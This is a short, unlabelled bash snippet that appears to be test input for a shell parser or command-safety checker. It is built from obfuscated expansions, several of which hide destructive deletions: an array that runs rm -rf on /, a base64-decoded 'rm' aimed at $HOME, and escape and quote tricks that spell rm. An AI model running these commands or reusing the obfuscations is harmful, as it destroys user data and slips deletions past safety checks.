x=/ y=(rm -rf "$x") z=$'\x72m'
"${y[@]}" ${x:0:1}{a,b} ~/c* r''m
${z/r/R} ${#x} ${!z} ${q:-${w:=v}} "${y[1]}"
a=$(echo cm0= | base64 -d); $a -rf "$HOME"
printf '\162%s' m | sh; echo -e '\x72' | rev | tr a-z A-Z
